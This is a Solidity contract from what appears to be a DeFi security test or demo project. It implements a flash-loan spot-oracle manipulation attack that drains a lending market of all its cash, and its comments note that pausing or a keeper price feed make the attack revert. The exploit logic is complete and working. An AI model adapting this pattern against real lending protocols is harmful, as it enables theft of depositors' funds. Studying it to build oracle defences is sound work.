// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {FlashLoanPool} from "../FlashLoanPool.sol";
import {FlashLoanAttack} from "./FlashLoanAttack.sol";
import {ConstantProductPool} from "../ConstantProductPool.sol";
import {LendingMarket} from "../LendingMarket.sol";

/// @title SpotOracleAttack — drains a LendingMarket priced by a SpotPriceFeed
/// @notice The Inverse Finance 2022-06 / Cream 2021-10 pattern in one
/// transaction, `attack()`:
///   1. flash-borrow `loanAmount` of the debt token;
///   2. buy the collateral token with all of it in the thin pool the market's
///      oracle reads, pushing the spot price up ~100x;
///   3. deposit the bought collateral and borrow all the market's cash against
///      its inflated value;
///   4. repay the flash loan; the rest is profit, sent to the deployer.
/// If the market is paused, step 3 reverts and so does the whole transaction.
/// Against a market priced by a KeeperPriceFeed it cannot repay and reverts too.
contract SpotOracleAttack is FlashLoanAttack {
    LendingMarket public immutable market;
    ConstantProductPool public immutable pool;

    constructor(LendingMarket market_, ConstantProductPool pool_, FlashLoanPool flashLender_, uint256 loanAmount_)
        FlashLoanAttack(flashLender_, loanAmount_)
    {
        market = market_;
        pool = pool_;
    }

    function _loanToken() internal view override returns (IERC20) {
        return market.debtToken();
    }

    function _exploit(address token, uint256 amount) internal override {
        IERC20 collateral = market.collateralToken();

        IERC20(token).approve(address(pool), amount);
        uint256 bought = pool.swap(token, amount, 0);

        collateral.approve(address(market), bought);
        market.depositCollateral(bought);
        uint256 limit = market.borrowLimit(address(this));
        uint256 cash = market.cash();
        market.borrow(limit < cash ? limit : cash);
    }
}
